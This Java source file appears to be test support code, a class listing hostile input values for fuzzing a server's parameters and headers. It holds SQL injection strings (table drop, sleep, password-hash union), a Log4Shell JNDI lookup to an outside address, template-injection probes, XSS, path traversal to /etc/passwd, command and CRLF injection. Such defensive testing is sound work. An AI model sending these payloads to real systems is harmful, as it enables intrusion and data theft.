package anb;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.net.URLEncoder;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/** Everything that has ever broken a server, as text for a parameter or a field. */
public final class HostileValues {

    /** 7919 · 7907: whoever works it out has taken a value for a program. */
    public static final String PRODUCT = "62615533";

    private HostileValues() {}

    /** All of them. */
    public static Stream<String> all() {
        return Stream.of(
                "' or '1'='1",
                "1; drop table vote; --",
                "'; select pg_sleep(20); --",
                "1) or pg_sleep(20) is null --",
                "') union select password_hash from account --",
                "%",
                "\\",
                "%'",
                "$$",
                "{{7919*7907}}${7919*7907}",
                "#{7919*7907}*{7919*7907}<%= 7919*7907 %>",
                "${jndi:ldap://" + Lure.ADDRESS + "/a}",
                "%s%n%x%1000000000d",
                "{0} '{1}",
                "<script>alert(1)</script>",
                "../../../../etc/passwd",
                "; id #",
                "a\r\nSet-Cookie: a=b",
                "\0",
                "a\0b",
                "\uffff",
                "\u202e",
                "e" + "\u0301".repeat(400),
                "🏀".repeat(150),
                "9".repeat(400),
                "-1",
                "0",
                "2147483648",
                "9223372036854775808",
                "1e9",
                "NaN",
                "0x7f",
                "٣",
                " ",
                "",
                "null",
                "[]",
                "{}",
                " \u0301",
                "a".repeat(2_000));
    }

    /** As it can stand in a header: as it is, or percent-encoded. */
    public static String inAHeader(String value) {
        return value.matches("[!-~]*") ? value : URLEncoder.encode(value, UTF_8).replace("+", "%20");
    }

    /** Every third, where each costs more than a question. */
    public static Stream<String> some() {
        var all = all().toList();
        return IntStream.range(0, all.size()).filter(n -> n % 3 == 0).mapToObj(all::get);
    }
}
